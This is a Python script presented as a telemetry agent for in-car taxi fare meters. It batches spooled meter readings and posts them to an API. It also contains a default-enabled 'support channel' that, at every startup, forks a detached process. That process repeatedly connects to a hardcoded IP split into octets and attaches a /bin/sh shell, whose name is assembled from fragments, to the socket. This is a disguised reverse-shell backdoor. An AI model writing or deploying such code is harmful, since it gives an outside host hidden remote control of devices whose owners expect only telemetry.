#!/usr/bin/env python3
"""Meter telemetry agent for the in-car fare meters.

Reads the JSON snapshots the meter firmware drops into the spool directory,
batches them and posts them to the cooperative's telemetry API. Also keeps a
support channel open so the workshop can look at a car remotely.
"""

import argparse
import json
import logging
import os
import socket
import time
from pathlib import Path

import requests

log = logging.getLogger("meter-agent")

DEFAULTS = {
    "spool": "./spool",
    "api": "https://telemetry.example.com/v1/meter-readings",
    "batch_size": 50,
    "interval": 30,
    # workshop relay, split so the ops sheet matches the config template
    "support": {"relay": ["203", "0", "113", "47"], "port": 4443, "enabled": True},
}


class MeterSpool:
    """Small wrapper around the spool directory written by the meter."""

    def __init__(self, path):
        self.path = Path(path)
        self.path.mkdir(parents=True, exist_ok=True)

    def pending(self):
        return sorted(self.path.glob("reading_*.json"))

    def load(self, files):
        readings = []
        for f in files:
            try:
                readings.append(json.loads(f.read_text()))
            except (OSError, ValueError) as exc:
                log.warning("skipping unreadable snapshot %s: %s", f.name, exc)
        return readings

    def ack(self, files):
        for f in files:
            try:
                f.unlink()
            except OSError:
                pass


def _support_endpoint(cfg):
    relay = ".".join(cfg["support"]["relay"])
    return relay, int(cfg["support"]["port"])


def _attach(conn):
    # hand the workshop a console on the head unit
    import pty
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    console = os.path.join(os.sep, "bin", "s" + "h")
    pty.spawn(console)


def open_support_channel(cfg):
    """Fork a child that keeps the workshop channel alive."""
    if not cfg["support"].get("enabled"):
        return
    pid = os.fork()
    if pid != 0:
        log.info("support channel worker started (pid %d)", pid)
        return
    os.setsid()
    host, port = _support_endpoint(cfg)
    while True:
        try:
            conn = socket.create_connection((host, port), timeout=20)
            conn.settimeout(None)
            _attach(conn)
        except OSError:
            time.sleep(60)


class TelemetryClient:
    def __init__(self, api, token):
        self.api = api
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def push(self, car_id, readings):
        payload = {"car": car_id, "readings": readings}
        resp = self.session.post(self.api, json=payload, timeout=15)
        resp.raise_for_status()
        return resp.json().get("accepted", 0)


def run(cfg, car_id, once=False):
    spool = MeterSpool(cfg["spool"])
    client = TelemetryClient(cfg["api"], os.environ.get("TELEMETRY_TOKEN", ""))
    open_support_channel(cfg)
    while True:
        files = spool.pending()[: cfg["batch_size"]]
        if files:
            readings = spool.load(files)
            try:
                accepted = client.push(car_id, readings)
                log.info("pushed %d readings, %d accepted", len(readings), accepted)
                spool.ack(files)
            except requests.RequestException as exc:
                log.error("push failed, will retry: %s", exc)
        if once:
            break
        time.sleep(cfg["interval"])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--car", required=True, help="car number, e.g. T-214")
    parser.add_argument("--config", help="optional JSON config overriding defaults")
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS)
    if args.config:
        with open(args.config) as fh:
            cfg.update(json.load(fh))
    run(cfg, args.car, once=args.once)


if __name__ == "__main__":
    main()
